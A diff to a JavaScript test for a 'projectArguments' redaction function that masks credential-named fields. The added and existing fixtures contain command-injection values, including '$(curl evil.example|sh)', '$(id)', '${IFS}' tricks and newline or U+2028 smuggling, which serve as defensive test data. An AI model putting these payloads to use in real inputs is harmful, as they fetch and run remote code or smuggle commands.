@@ -12,13 +12,15 @@ describe('projectArguments', () => {
   });
 
   it('masks a credential-named or secret member up to the first character that can carry code, and shows the rest', () => {
-    const args = { api_key: 'k3y;touch${IFS}PWNED', Authorization: 'Bearer abc123$(id)', token: '$(curl evil.example|sh)', password: 'hunter2hunter2', login: 'pw12`id`' };
+    const args = { api_key: 'k3y;touch${IFS}PWNED', Authorization: 'Bearer abc123$(id)', token: '$(curl evil.example|sh)', password: 'hunter2hunter2', login: 'pw12`id`', secret: 'k3y\ntouch PWNED', apiKey: 'k3y\u2028x=1' };
     expect(projectArguments(args, { secretKeys: new Set(['login']) })).toEqual({
       api_key: '[redacted];touch${IFS}PWNED',
       Authorization: 'Bearer [redacted]$(id)',
       token: '$(curl evil.example|sh)',
       password: '[redacted]',
       login: '[redacted]`id`',
+      secret: '[redacted]\ntouch PWNED',
+      apiKey: '[redacted]\u2028x=1',
     });
   });
 
